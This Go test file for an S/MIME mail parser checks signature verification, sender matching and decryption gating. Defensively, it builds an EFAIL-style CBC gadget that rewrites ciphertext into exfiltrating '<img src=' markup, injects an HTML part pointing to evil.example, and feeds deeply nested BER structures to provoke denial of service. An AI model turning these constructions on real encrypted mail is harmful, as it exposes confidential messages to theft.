package smime_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"strings"
	"testing"
	"time"

	"postern/parser/mime"
	"postern/parser/smime"
)

const (
	ada    = "ada@peer.example"
	letter = "Content-Type: text/plain; charset=utf-8\r\n\r\nThe host 203.0.113.9 attacks us.\r\nPlease look at it.\r\n"
)

// mailOf puts a header before an entity, in the line ends of a mail server.
func mailOf(from, entity string) string {
	entity = strings.ReplaceAll(strings.ReplaceAll(entity, "\r\n", "\n"), "\n", "\r\n")
	return "From: " + from + "\r\nSubject: report\r\n" + entity
}

func open(t testing.TB, keys *smime.Keys, raw, from string) (smime.Opened, string) {
	t.Helper()
	ctx := context.Background()
	root, _ := mime.Read(ctx, strings.NewReader(raw), int64(len(raw)), mime.Limits{})
	opened := keys.Open(ctx, root, from, time.Now(), mime.Limits{})
	var text strings.Builder
	opened.Root.Walk(func(p *mime.Part) bool {
		if p.Leaf() && p.Type == "text/plain" {
			body, _ := p.Text(1 << 20)
			text.WriteString(body)
		}
		return true
	})
	return opened, text.String()
}

func load(t testing.TB, a *authority, own ...string) *smime.Keys {
	t.Helper()
	var identities [][]byte
	for _, name := range own {
		identities = append(identities, a.file(name+".pem"))
	}
	keys, err := smime.Load([][]byte{a.file("ca.pem")}, identities)
	if err != nil {
		t.Fatal(err)
	}
	return keys
}

// TestSigned is the matrix of forms, keys and faults of signatures.
func TestSigned(t *testing.T) {
	a := newAuthority(t)
	a.person("ada", ada, "rsa:2048", 365, "emailProtection")
	a.person("curve", ada, "ec -pkeyopt ec_paramgen_curve:prime256v1", 365, "emailProtection")
	a.person("short", ada, "rsa:1024", 365, "emailProtection")
	a.person("web", ada, "rsa:2048", 365, "serverAuth")
	stranger := newAuthority(t)
	stranger.person("eve", ada, "rsa:2048", 365, "emailProtection")
	keys := load(t, a)
	changed := func(s string) string { return strings.Replace(s, "203.0.113.9", "203.0.113.8", 1) }
	for _, row := range []struct {
		name, from, entity       string
		verdict, sentence, tier  string
		covers                   string
		match, readable, unfound bool
	}{
		{"detached", ada, a.sign("ada", letter), "good", "covers the whole mail and matches the sender", "known", "all", true, true, false},
		{"opaque", ada, a.sign("ada", letter, "-nodetach"), "good", "covers the whole mail and matches the sender", "known", "all", true, true, false},
		{"opaque streamed", ada, a.sign("ada", letter, "-nodetach", "-stream"), "good", "covers the whole mail", "known", "all", true, true, false},
		{"elliptic curve", ada, a.sign("curve", letter), "good", "matches the sender", "known", "all", true, true, false},
		{"without attributes", ada, a.sign("ada", letter, "-noattr", "-nodetach"), "good", "matches the sender", "known", "all", true, true, false},
		{"another sender", "eve@else.example", a.sign("ada", letter), "good", "is not by the sender eve@else.example", "known", "all", false, true, false},
		{"changed on the way", ada, changed(a.sign("ada", letter)), "bad", "the text was changed", "unknown", "all", true, true, false},
		{"unknown authority", ada, stranger.sign("eve", letter), "unknown-key", "no authority that we trust", "unknown", "all", true, true, false},
		{"certificate left out", ada, a.sign("ada", letter, "-nocerts"), "unknown-key", "does not bring the certificate", "unknown", "all", false, true, false},
		{"short key", ada, a.sign("short", letter), "weak", "shorter than", "unknown", "all", true, true, false},
		{"old digest", ada, a.sign("ada", letter, "-md", "sha1"), "weak", "can be forged", "unknown", "all", true, true, false},
		{"certificate of a web server", ada, a.sign("web", letter), "unknown-key", "not made for mail", "unknown", "all", true, true, false},
		{"a part beside it", ada, "Content-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\n" + a.sign("ada", letter) + "\r\n--outer\r\nContent-Type: text/plain\r\n\r\nfooter\r\n--outer--\r\n", "good", "covers only a part", "known", "part", true, true, false},
		{"in an attached mail", ada, "Content-Type: message/rfc822\r\n\r\nFrom: " + ada + "\r\n" + a.sign("ada", letter), "good", "says nothing about who sent this one", "known", "part", false, true, false},
		{"no S/MIME", ada, letter, "", "", "", "", false, true, true},
	} {
		t.Run(row.name, func(t *testing.T) {
			got, text := open(t, keys, mailOf(row.from, row.entity), row.from)
			if got.Found == row.unfound || got.Encrypted || strings.Contains(text, "attacks us") != row.readable {
				t.Errorf("got %+v and text %q", got, text)
			}
			if row.unfound {
				return
			}
			if len(got.Signatures) != 1 {
				t.Fatalf("got %d signatures, problem %q", len(got.Signatures), got.Problem)
			}
			s := got.Signatures[0]
			if s.Verdict != row.verdict || s.Tier != row.tier || s.Covers != row.covers || s.FromMatch != row.match || !strings.Contains(s.Sentence, row.sentence) {
				t.Errorf("got %+v, want %s %s %s match %t, %q in it", s, row.verdict, row.tier, row.covers, row.match, row.sentence)
			}
		})
	}
}

// TestSeveralSenders: a mail may name its sender twice, outside and protected inside
// (RFC 9788), and outside two; a certificate has to name them all.
func TestSeveralSenders(t *testing.T) {
	a := newAuthority(t)
	a.person("ada", ada, "ec -pkeyopt ec_paramgen_curve:prime256v1", 365, "emailProtection")
	a.person("team", "csirt@example.org", "rsa:2048", 365, "emailProtection")
	keys := load(t, a, "team")
	from := func(sender string) string { return "From: " + sender + "\r\n" + letter }
	for _, row := range []struct {
		name, from, entity string
		match              bool
	}{
		{"the same inside", ada, a.encrypt("team", a.sign("ada", from("Ada <ADA@peer.example>")), "-aes-256-cbc"), true},
		{"another inside", ada, a.encrypt("team", a.sign("ada", from("chief@else.example")), "-aes-256-cbc"), false},
		{"another inside, opaque", ada, a.encrypt("team", a.sign("ada", from("chief@else.example"), "-nodetach"), "-aes-256-cbc"), false},
		{"another inside, only signed", ada, a.sign("ada", from("chief@else.example"), "-nodetach"), false},
		{"another in the field", ada + ", chief@else.example", a.sign("ada", letter), false},
		{"another behind one that is repeated", strings.Repeat(ada+", ", 20) + "chief@else.example", a.sign("ada", letter), false},
		{"another in a field of its own", ada + "\r\nFrom: chief@else.example", a.sign("ada", letter), false},
	} {
		t.Run(row.name, func(t *testing.T) {
			got, _ := open(t, keys, mailOf(row.from, row.entity), ada)
			if len(got.Signatures) != 1 || got.Signatures[0].Verdict != "good" || got.Signatures[0].FromMatch != row.match {
				t.Fatalf("got %+v, want match %t", got.Signatures, row.match)
			}
			if !row.match && !strings.Contains(got.Signatures[0].Sentence, "is not by the sender chief@else.example") {
				t.Errorf("got %q", got.Signatures[0].Sentence)
			}
		})
	}
}

// TestPartsAddedToSigned: a list put its own part into the signed mail; all is read.
func TestPartsAddedToSigned(t *testing.T) {
	a := newAuthority(t)
	a.person("ada", ada, "ec -pkeyopt ec_paramgen_curve:prime256v1", 365, "emailProtection")
	signed := strings.ReplaceAll(a.sign("ada", letter), "\r\n", "\n")
	end := signed[strings.LastIndex(strings.TrimSpace(signed), "\n"):]
	mark := strings.TrimSuffix(strings.TrimSpace(end), "--")
	footer := strings.Replace(signed, end, "\n"+mark+"\nContent-Type: text/plain\n\nWritten by a list.\n"+end, 1)
	got, text := open(t, load(t, a), mailOf(ada, footer), ada)
	if len(got.Signatures) != 1 || got.Signatures[0].Verdict != "good" || got.Signatures[0].Covers != "part" || got.Root.Type != "multipart/mixed" || len(got.Root.Children) != 2 {
		t.Errorf("got %+v, want it good for a part of two", got)
	}
	if !strings.Contains(text, "attacks us") || !strings.Contains(text, "by a list") {
		t.Errorf("got text %q", text)
	}
}

// TestEncrypted: what came out of an envelope is read only when it is signed and
// the signature fits, because S/MIME's encryption can be changed unnoticed.
func TestEncrypted(t *testing.T) {
	a := newAuthority(t)
	a.person("ada", ada, "rsa:2048", 365, "emailProtection")
	a.person("team", "csirt@example.org", "rsa:2048", 365, "emailProtection")
	a.person("other", "other@else.example", "rsa:2048", 365, "emailProtection")
	signed, opaque := a.sign("ada", letter), a.sign("ada", letter, "-nodetach")
	beside := "Content-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--outer\r\n" + signed + "\r\n--outer--\r\n"
	for _, row := range []struct {
		name, entity string
		own          string
		opens        bool
		problem      string
	}{
		{"signed inside", a.encrypt("team", signed, "-aes-256-cbc"), "team", true, ""},
		{"opaque inside", a.encrypt("team", opaque, "-aes-128-cbc"), "team", true, ""},
		{"triple DES", a.encrypt("team", signed, "-des3"), "team", true, ""},
		{"streamed", a.encrypt("team", signed, "-aes-256-cbc", "-stream"), "team", true, ""},
		{"not signed", a.encrypt("team", letter, "-aes-256-cbc"), "team", false, "without a signature inside that fits"},
		{"changed before it was encrypted", a.encrypt("team", strings.Replace(signed, "attacks", "attacked", 1), "-aes-256-cbc"), "team", false, "without a signature inside that fits"},
		{"a page around the signed part", a.encrypt("team", beside, "-aes-256-cbc"), "team", false, "without a signature inside that fits"},
		{"for another", a.encrypt("other", signed, "-aes-256-cbc"), "team", false, "for a certificate that is none of ours"},
		{"no key at all", a.encrypt("team", signed, "-aes-256-cbc"), "", false, "no key of ours"},
		{"authenticated", a.encrypt("team", signed, "-aes-256-gcm"), "team", true, ""},
	} {
		t.Run(row.name, func(t *testing.T) {
			keys := load(t, a)
			if row.own != "" {
				keys = load(t, a, row.own)
			}
			got, text := open(t, keys, mailOf(ada, row.entity), ada)
			if !got.Encrypted || got.Decrypted != row.opens || strings.Contains(text, "attack") != row.opens || !strings.Contains(got.Problem, row.problem) {
				t.Errorf("got %+v and text %q, want it open: %t, %q", got, text, row.opens, row.problem)
			}
			if row.opens && (len(got.Signatures) != 1 || got.Signatures[0].Verdict != "good" || got.Signatures[0].Covers != "all" || len(got.Deciphered) == 0) {
				t.Errorf("got signatures %+v, deciphered %d", got.Signatures, len(got.Deciphered))
			}
		})
	}
}

// TestCBCGadget is the construction of EFAIL against S/MIME: blocks whose text is
// known are turned into markup that would carry the rest away. Wherever it is done,
// in text that is signed inside and in text that is not, nothing changed is read.
func TestCBCGadget(t *testing.T) {
	a := newAuthority(t)
	a.person("ada", ada, "rsa:2048", 365, "emailProtection")
	a.person("team", "csirt@example.org", "rsa:2048", 365, "emailProtection")
	keys := load(t, a, "team")
	for name, inside := range map[string]string{"signed": a.sign("ada", letter), "opaque": a.sign("ada", letter, "-nodetach"), "not signed": letter} {
		t.Run(name, func(t *testing.T) {
			head, body, _ := strings.Cut(strings.ReplaceAll(a.encrypt("team", inside, "-aes-128-cbc"), "\r\n", "\n"), "\n\n")
			cipher, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(strings.TrimSpace(body), "\n", ""))
			if err != nil {
				t.Fatal(err)
			}
			for at := len(cipher) - len(inside); at+32 < len(cipher); at += 32 {
				gadget := bytes.Clone(cipher)
				for i, c := range []byte("<img src='//e/?") {
					gadget[at+i] ^= c ^ inside[i]
				}
				raw := head + "\r\n\r\n" + base64.StdEncoding.EncodeToString(gadget) + "\r\n"
				got, text := open(t, keys, mailOf(ada, raw), ada)
				if got.Decrypted && strings.Contains(text, "The host 203.0.113.9 attacks us.\nPlease look at it.\n") && !strings.Contains(text, "<img") {
					continue // it hit the header around the signed part, which is as it was
				}
				if got.Decrypted || got.Problem == "" || strings.Contains(text, "attacks us") || len(got.Signatures) != 0 {
					t.Fatalf("byte %d: got %+v and text %q", at, got, text)
				}
			}
		})
	}
}

func TestBroken(t *testing.T) {
	opaque := func(body string) string {
		return "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body
	}
	for _, row := range []struct{ name, entity, problem string }{
		{"no bytes", opaque(""), "broken"},
		{"garbage", opaque("AAAA\r\n"), "cannot be read"},
		{"cut off", opaque("MIIB\r\n"), "broken"},
		{"another structure", opaque("MAMCAQE=\r\n"), "cannot be read"},
	} {
		t.Run(row.name, func(t *testing.T) {
			var none *smime.Keys
			if got, _ := open(t, none, mailOf(ada, row.entity), ada); !got.Found || !strings.Contains(got.Problem, row.problem) {
				t.Errorf("got %+v, want a problem with %q", got, row.problem)
			}
		})
	}
}

// TestNestedStructures: a decoder that calls itself for each level would die of
// these, with everything else in the process.
func TestNestedStructures(t *testing.T) {
	for name, ber := range map[string][]byte{
		"indefinite levels":   bytes.Repeat([]byte{0x30, 0x80}, 8<<20),
		"a million elements":  append([]byte{0x30, 0x80}, bytes.Repeat([]byte{0x04, 0x00}, 1<<20)...),
		"more than it allows": make([]byte, 33<<20),
	} {
		t.Run(name, func(t *testing.T) {
			raw := "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n" + string(ber)
			var none *smime.Keys
			if got, _ := open(t, none, mailOf(ada, "")+raw, ada); got.Problem == "" {
				t.Errorf("got %+v", got)
			}
		})
	}
}

func TestLoad(t *testing.T) {
	if _, err := smime.Load([][]byte{[]byte("nothing")}, nil); err == nil || !strings.Contains(err.Error(), "authority 1") {
		t.Errorf("got %v", err)
	}
	if _, err := smime.Load(nil, [][]byte{[]byte("nothing")}); err == nil || !strings.Contains(err.Error(), "certificate 1") {
		t.Errorf("got %v", err)
	}
}

// FuzzOpen holds that nothing a stranger writes makes it fail, grow or call
// anything good without an authority.
func FuzzOpen(f *testing.F) {
	f.Add([]byte{0x30, 0x80, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02, 0xa0, 0x80, 0x30, 0x80, 0x02, 0x01, 0x01, 0, 0, 0, 0, 0, 0})
	f.Add([]byte("\x30\x80\x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x17\xa0\x80\x30\x80\x02\x01\x00\x31\x00\x30\x80\x06\x03\x2a\x03\x04" +
		"\x30\x05\x06\x03\x2a\x03\x04\xa0\x80\x04\x01x\x00\x00\x00\x00\x04\x01x\x00\x00\x00\x00\x00\x00"))
	f.Add([]byte{0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x03, 0xa0, 0x00})
	f.Fuzz(func(t *testing.T, ber []byte) {
		raw := "From: " + ada + "\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n" + string(ber)
		var none *smime.Keys
		got, _ := open(t, none, raw, ada)
		if !got.Found || got.Decrypted {
			t.Fatalf("got %+v", got)
		}
		for _, s := range got.Signatures {
			if s.Verdict == "good" || s.Sentence == "" {
				t.Fatalf("got %+v", s)
			}
		}
	})
}
